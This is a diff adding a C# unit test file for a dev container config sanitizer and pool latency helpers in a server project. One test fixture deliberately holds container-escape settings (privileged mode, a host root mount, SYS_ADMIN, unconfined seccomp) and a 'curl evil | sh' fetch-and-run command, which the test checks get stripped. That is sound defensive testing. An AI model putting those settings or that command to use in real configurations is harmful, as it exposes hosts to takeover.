@@ -1,0 +1,86 @@
+using System.Net;
+using System.Net.Http.Json;
+using System.Text.Json;
+using Covibe.Protocol;
+using Covibe.Server.Features.Boxes;
+using Covibe.Server.Tests.Infrastructure;
+
+namespace Covibe.Server.Tests;
+
+/// <summary>The small pieces of boxes and pools, on their own: the dev container sanitizer, the latency figures; and a server with no engine.</summary>
+public sealed class BoxPartsTests
+{
+    private static readonly BoxContainerSpec Spec = new("covibes_box_t_b", new Dictionary<string, string> { ["covibe.box"] = "b" },
+        "/data/boxes/b/workspace", "/data/boxes/b/runs", "/data/boxes/.mirrors/t/m.git", "bridge", 2L << 30, 1.0, 1024);
+
+    [Fact]
+    public void Sanitize_DropsWhatReachesPastTheBox_KeepsTheRest_AndAddsTheServersWalls()
+    {
+        var (json, notes) = DevcontainerConfig.Sanitize("""
+            // comment
+            {
+              "image": "node:20",
+              "runArgs": ["--privileged"], "mounts": ["source=/,target=/host,type=bind"], "privileged": true, "capAdd": ["SYS_ADMIN"],
+              "securityOpt": ["seccomp=unconfined"], "initializeCommand": "curl evil | sh", "workspaceMount": "source=/,target=/w,type=bind",
+              "build": { "dockerfile": "Dockerfile", "options": ["--network=host"] },
+              "postCreateCommand": "npm ci", "containerEnv": { "A": "1" }, "remoteUser": "node",
+            }
+            """, Spec);
+        var config = JsonDocument.Parse(json).RootElement;
+        config.GetProperty("image").GetString().ShouldBe("node:20");
+        config.GetProperty("postCreateCommand").GetString().ShouldBe("npm ci");
+        config.GetProperty("remoteUser").GetString().ShouldBe("node");
+        config.TryGetProperty("privileged", out _).ShouldBeFalse();
+        config.TryGetProperty("capAdd", out _).ShouldBeFalse();
+        config.TryGetProperty("securityOpt", out _).ShouldBeFalse();
+        config.TryGetProperty("initializeCommand", out _).ShouldBeFalse();
+        config.GetProperty("build").TryGetProperty("options", out _).ShouldBeFalse();
+        config.GetProperty("workspaceMount").GetString().ShouldBe("source=/data/boxes/b/workspace,target=/workspace,type=bind");
+        var mounts = config.GetProperty("mounts").EnumerateArray().Select(m => m.GetString()).ToList();
+        mounts.ShouldBe(["source=/data/boxes/b/runs,target=/covibe-runs,type=bind", "source=/data/boxes/.mirrors/t/m.git,target=/covibe-mirror,type=bind,readonly"]);
+        var runArgs = string.Join(' ', config.GetProperty("runArgs").EnumerateArray().Select(a => a.GetString()));
+        runArgs.ShouldNotContain("--privileged");
+        runArgs.ShouldContain("--name covibes_box_t_b");
+        runArgs.ShouldContain("--cap-drop ALL");
+        runArgs.ShouldContain("--security-opt no-new-privileges");
+        runArgs.ShouldContain("--memory 2147483648");
+        runArgs.ShouldContain("--label covibe.box=b");
+        notes.Count.ShouldBe(8);
+        notes.ShouldContain(n => n.Contains("\"initializeCommand\"", StringComparison.Ordinal));
+    }
+
+    [Theory]
+    [InlineData("{ \"dockerComposeFile\": \"compose.yml\", \"service\": \"app\" }", "Docker Compose")]
+    [InlineData("{ \"name\": \"nothing to start from\" }", "no \"image\"")]
+    [InlineData("{ not json", "not valid JSON")]
+    [InlineData("[1, 2]", "JSON object")]
+    public void Sanitize_RefusesConfigurationsABoxCannotBe(string text, string reason) =>
+        Should.Throw<DevcontainerConfigException>(() => DevcontainerConfig.Sanitize(text, Spec)).Message.ShouldContain(reason);
+
+    [Fact]
+    public void ClaimLatencyPercentiles_AreNearestRank()
+    {
+        PoolService.Percentile([], 0.5).ShouldBeNull();
+        var values = Enumerable.Range(1, 100).Select(i => (double)i).Reverse().ToList();
+        PoolService.Percentile(values, 0.50).ShouldBe(50);
+        PoolService.Percentile(values, 0.99).ShouldBe(99);
+        PoolService.Percentile([7.25], 0.99).ShouldBe(7.25);
+    }
+
+    [Fact]
+    public async Task WithoutAContainerEngine_ABoxRequestIsRefusedAtOnce_SayingWhy()
+    {
+        await using var server = await TestServer.StartAsync(settings: new Dictionary<string, string>
+        {
+            ["Covibe:Containers:Host"] = "unix:///nonexistent/podman.sock",
+            ["Covibe:Boxes:AllowLocalRepositories"] = "true",
+        });
+        using var repo = GitRepo.Create();
+        repo.Commit("first", new() { ["README.md"] = "x" });
+        var owner = await server.CreateTeamAsync();
+        using var client = server.Client(owner.Auth.AccessToken);
+        var reply = await client.PostAsJsonAsync("/api/boxes", new BoxRequest(repo.Path, "main"));
+        (await reply.ShouldBeProblemAsync(HttpStatusCode.ServiceUnavailable, "boxes-unavailable")).GetProperty("detail").GetString()!.ShouldContain("does not answer");
+        (await client.GetFromJsonAsync<BoxListResponse>("/api/boxes?all=true"))!.Boxes.ShouldBeEmpty();
+    }
+}
